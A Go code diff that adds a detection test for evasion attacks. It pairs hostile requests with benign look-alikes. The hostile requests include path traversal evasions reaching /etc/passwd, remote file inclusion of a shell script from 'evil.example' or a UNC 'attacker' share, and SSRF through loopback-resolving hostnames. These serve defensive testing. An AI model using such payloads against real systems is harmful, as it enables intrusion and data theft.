@@ -231,3 +231,14 @@ func TestAPIFamilyBoundaries(t *testing.T) {
 		{"graphql-abuse", post("/graphql", jsonCT, batch(11)), post("/graphql", jsonCT, batch(10))},
 	})
 }
+
+func TestEvasionFamilyBoundaries(t *testing.T) {
+	runBoundaries(t, []boundary{
+		{"traversal-filter-evasion", get("/files?name=..././..././etc/passwd"), get("/files?name=./docs/readme.md")},
+		{"traversal-filter-evasion", get("/files?name=..0x2f..0x2fetc/passwd"), get("/files?name=v1.2/notes")},
+		{"rfi-unc-or-mangled-url", get("/page?tpl=%5C%5Cattacker%5Cshare%5Cx.php"), get("/page?tpl=C%3A%5CUsers%5Cdocs")},
+		{"rfi-remote-script", get("/page?inc=http://evil.example/shell.php?"), get("/page?ref=https://docs.example.com/guide.html")},
+		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app.lvh.me/admin"}`), post("/hooks", jsonCT, `{"url":"http://8.8.8.8.nip.io/"}`)},
+		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app-127-0-0-1.sslip.io/"}`), post("/hooks", jsonCT, `{"url":"https://api.example.com/v1"}`)},
+	})
+}
